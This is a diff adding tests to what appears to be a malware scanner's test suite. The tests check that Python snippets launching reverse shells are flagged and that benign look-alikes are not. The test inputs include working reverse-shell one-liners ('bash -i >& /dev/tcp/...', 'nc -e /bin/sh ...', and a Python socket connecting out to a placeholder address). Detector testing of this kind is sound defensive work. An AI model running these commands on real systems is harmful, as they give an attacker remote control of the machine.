@@ -166,3 +166,23 @@ describe('credential files', () => {
     expect(at(`import os\nCREDS = os.path.expanduser("~/.aws/credentials")\n`)).toEqual([]);
   });
 });
+
+describe('reverse shell', () => {
+  it('a child python -c that connects out (MAL-2026-15859), /dev/tcp, nc -e: danger', () => {
+    expect(
+      at(
+        `import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import socket;s=socket.create_connection(('192.0.2.1', 4444));s.send(b'SHELL')"])\n`,
+      ),
+    ).toContain('danger reverse-shell 2 import');
+    expect(at(`import os\nos.system("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")\n`)).toContain('danger reverse-shell 2 import');
+    expect(at(`import os\nos.system("nc -e /bin/sh 192.0.2.1 4444")\n`)).toContain('danger reverse-shell 2 import');
+  });
+
+  it('benign look-alikes: python -c printing a version, a socket server function, nc -z port probe', () => {
+    const found = [
+      ...at(`import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import sys; print(sys.version)"])\n`),
+      ...at(`import os\nos.system("nc -z localhost 5432")\n`),
+    ];
+    expect(found.filter((f) => f.includes('reverse-shell'))).toEqual([]);
+  });
+});
